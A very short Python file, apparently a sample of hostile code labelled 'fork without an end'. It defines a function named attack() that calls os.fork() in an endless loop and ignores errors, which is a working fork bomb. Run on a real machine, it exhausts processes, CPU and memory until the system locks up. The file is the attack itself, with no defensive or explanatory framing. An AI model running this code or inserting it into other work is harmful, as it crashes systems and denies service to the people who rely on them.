# what: fork without an end
# within: 40

import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
